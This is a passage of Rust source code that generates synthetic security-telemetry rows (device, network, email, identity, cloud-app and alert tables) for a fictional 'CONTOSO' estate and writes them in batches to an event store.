            "OSBuild": 22621, "IsAzureADJoined": true, "JoinType": "Hybrid Azure AD Join",
            "LoggedOnUsers": format!("[{{\"UserName\":\"{}\",\"DomainName\":\"CONTOSO\",\"Sid\":\"{}\"}}]", u.account_name, u.sid),
            "OSVersion": "10.0", "MachineGroup": "Default", "ReportId": rid,
            "OnboardingStatus": "Onboarded", "DeviceCategory": "Endpoint",
            "DeviceType": if d.name.starts_with("srv") { "Server" } else { "Workstation" },
            "SensorHealthState": "Active", "ExposureLevel": "Medium", "AssetValue": "Normal",
            "IsInternetFacing": false, "IsExcluded": false,
        }))));
        let rid = self.rid();
        out.push(("DeviceNetworkInfo", obj(json!({
            "Timestamp": format_datetime(t), "DeviceId": d.device_id, "DeviceName": d.name,
            "NetworkAdapterName": "Ethernet", "MacAddress": format!("00-15-5D-{}", self.r.hex(6).to_uppercase()),
            "NetworkAdapterType": "Ethernet", "NetworkAdapterStatus": "Up",
            "IPAddresses": format!("[{{\"IPAddress\":\"{}\",\"SubnetPrefix\":24,\"AddressType\":\"Private\"}}]", d.ip),
            "DefaultGateways": "[\"10.0.1.1\"]", "DnsAddresses": "[\"10.0.0.2\"]",
            "ConnectedNetworks": "[{\"Name\":\"contoso.local\",\"Category\":\"Domain\"}]",
            "ReportId": rid,
        }))));
    }
}

/// Generates about `total_events` events for `tenant_id` across the main advanced-hunting
/// tables (device, email, identity, cloud-app and alert tables), timestamped within the 30
/// days before `now`, deterministic for a given estate, count and `now`. `progress` is called
/// with the number of events written so far. Returns the number of rows written.
pub async fn seed_events(
    store: &EventStore,
    tenant_id: &str,
    estate: &Estate,
    total_events: u64,
    now: DateTime<Utc>,
    progress: impl FnMut(u64),
) -> Result<u64, StoreError> {
    seed_tables(store, tenant_id, estate, total_events, now, None, progress).await
}

/// [`seed_events`] restricted to the tables in `only` (all tables when `None`): the other
/// tables' events are not generated, so `total_events` rows all land in the chosen tables,
/// in the same proportions to each other as in a full seed. Unknown names are an error.
pub async fn seed_tables(
    store: &EventStore,
    tenant_id: &str,
    estate: &Estate,
    total_events: u64,
    now: DateTime<Utc>,
    only: Option<&[&str]>,
    mut progress: impl FnMut(u64),
) -> Result<u64, StoreError> {
    const FLUSH: usize = 100_000;
    if let Some(only) = only {
        if let Some(bad) = only.iter().find(|t| store.catalog().table(t).is_none()) {
            return Err(StoreError::UnknownTable(bad.to_string()));
        }
        if !only.iter().any(|t| GENERATED_TABLES.contains(t)) {
            return Err(StoreError::Schema {
                table: only.join(","),
                message: "the generator writes none of these tables".into(),
            });
        }
    }
    let keep = |t: &str| only.is_none_or(|o| o.contains(&t));
    let now_ns = now.timestamp_nanos_opt().unwrap_or(0);
    let mut g = Gen {
        e: estate,
        r: Rng::new(total_events ^ 0x5eed),
        now: now_ns,
        report: 1000,
    };
    let mut buf: Vec<(&'static str, Map<String, Value>)> = Vec::new();
    let mut written = 0u64;
    // Daily device snapshots (DeviceInfo / DeviceNetworkInfo), bounded by the event budget.
    let snapshots_days = (total_events / 50 / estate.devices.len().max(1) as u64).clamp(1, 30);
    for day in 0..snapshots_days {
        for d in &estate.devices {
            let t = now_ns - (day as i64) * 86_400_000_000_000 - 3_600_000_000_000;
            g.device_info(d, t, &mut buf);
        }
    }
    buf.retain(|(t, _)| keep(t));
    let mut produced = buf.len() as u64;
    // The snapshot tables are written above only; without any drawn table kept, the draws
    // below would never produce a row.
    let drawable = GENERATED_TABLES
        .iter()
        .any(|t| !SNAPSHOT_TABLES.contains(t) && keep(t));
    while drawable && produced < total_events {
        let k = g.r.below(100);
        // One event kind per draw, in the full seed's proportions; kinds whose tables are all
        // filtered out are skipped without generating anything.
        let single: Option<(&'static str, MakeRow)> = match k {
            0..=29 => Some(("DeviceProcessEvents", |g: &mut Gen| g.process())),
            30..=49 => Some(("DeviceNetworkEvents", |g: &mut Gen| g.network())),
            50..=61 => Some(("DeviceFileEvents", |g: &mut Gen| g.file_event())),
            62..=69 => Some(("DeviceRegistryEvents", |g: &mut Gen| g.registry())),
            70..=75 => Some(("DeviceImageLoadEvents", |g: &mut Gen| g.image_load())),
            76..=81 => Some(("DeviceLogonEvents", |g: &mut Gen| g.logon())),
            82..=86 => Some(("DeviceEvents", |g: &mut Gen| g.device_event())),
            92..=94 => Some(("IdentityLogonEvents", |g: &mut Gen| g.identity_logon())),
            95..=97 => Some(("CloudAppEvents", |g: &mut Gen| g.cloud_app())),
            _ => None,
        };
        match single {
            Some((table, make)) => {
                if keep(table) {
                    buf.push((table, make(&mut g)));
                }
            }
            None => {
                let (tables, make): (&[&str], fn(&mut Gen, &mut Rows)) = if (87..=91).contains(&k) {
                    (EMAIL_TABLES, |g: &mut Gen, out: &mut Rows| g.email(out))
                } else {
                    (ALERT_TABLES, |g: &mut Gen, out: &mut Rows| g.alert(out))
                };
                if tables.iter().any(|t| keep(t)) {
                    let from = buf.len();
                    make(&mut g, &mut buf);
                    retain_from(&mut buf, from, keep);
                }
            }
        }
        produced = written + buf.len() as u64;
        if buf.len() >= FLUSH {
            written += flush(store, tenant_id, &mut buf)?;
            progress(written);
        }
    }
    written += flush(store, tenant_id, &mut buf)?;
    progress(written);
    Ok(written)
}

type Row = Map<String, Value>;
type Rows = Vec<(&'static str, Row)>;
/// Generates one row of a single-table event kind.
type MakeRow = fn(&mut Gen) -> Row;

/// Tables written by [`Gen::email`].
const EMAIL_TABLES: &[&str] = &["EmailEvents", "EmailAttachmentInfo", "EmailUrlInfo"];
/// Tables written by [`Gen::alert`].
const ALERT_TABLES: &[&str] = &["AlertInfo", "AlertEvidence"];
/// Tables written once per device as snapshots, before the event draws.
const SNAPSHOT_TABLES: &[&str] = &["DeviceInfo", "DeviceNetworkInfo"];
/// Every table the generator writes.
pub const GENERATED_TABLES: &[&str] = &[
    "DeviceProcessEvents",
    "DeviceNetworkEvents",
    "DeviceFileEvents",
    "DeviceRegistryEvents",
    "DeviceImageLoadEvents",
    "DeviceLogonEvents",
    "DeviceEvents",
    "DeviceInfo",
    "DeviceNetworkInfo",
    "EmailEvents",
    "EmailAttachmentInfo",
    "EmailUrlInfo",
    "IdentityLogonEvents",
    "CloudAppEvents",
    "AlertInfo",
    "AlertEvidence",
];

/// Keeps only the rows of `buf[from..]` whose table `keep` accepts.
fn retain_from(
    buf: &mut Vec<(&'static str, Map<String, Value>)>,
    from: usize,
    keep: impl Fn(&str) -> bool,
) {
    let tail: Vec<_> = buf.drain(from..).filter(|(t, _)| keep(t)).collect();
    buf.extend(tail);
}

fn flush(
    store: &EventStore,
    tenant: &str,
    buf: &mut Vec<(&'static str, Map<String, Value>)>,
) -> Result<u64, StoreError> {
    let mut by_table: std::collections::BTreeMap<&str, Vec<Map<String, Value>>> =
        Default::default();
    for (t, row) in buf.drain(..) {
        by_table.entry(t).or_default().push(row);
    }
    let mut n = 0;
    for (table, mut rows) in by_table {
        // The shared column helpers fill columns some tables lack; drop those.
        if let Some(schema) = store.catalog().table(table) {
            for r in &mut rows {
                r.retain(|k, _| schema.contains(k));
            }
        }
        let batch = rows_to_batch(store, table, &rows)?;
        n += store.append(tenant, table, &batch)?;
    }
    Ok(n)
}
